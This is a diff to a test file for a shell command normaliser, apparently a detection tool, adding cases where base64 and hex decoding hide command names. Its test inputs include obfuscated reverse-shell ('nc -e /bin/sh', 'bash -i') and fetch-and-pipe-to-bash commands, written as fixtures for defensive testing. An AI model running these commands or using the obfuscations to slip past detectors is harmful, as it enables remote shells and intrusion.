@@ -22,6 +22,10 @@ describe('shell command normaliser: obfuscations recover the real command', () =
     ['`printf "\\143url"` http://x', 'curl'],
     ['$(printf "\\x6e\\x63") -e /bin/sh h 1', 'nc'],
     ['`echo b``echo ash` -i', 'bash'],
+    // a substitution that decodes its word: base64 and hex
+    ['`echo Y3VybA== | base64 -d` -s http://x', 'curl'],
+    ['$(echo YmFzaA== | base64 --decode) -i', 'bash'],
+    ['$(printf 6e63 | xxd -r -p) -e /bin/sh h 1', 'nc'],
     // brace expansion
     ['{curl,-s,http://x}', 'curl'],
     ['{wget,-qO-,http://x}|{bash,}', 'bash'],
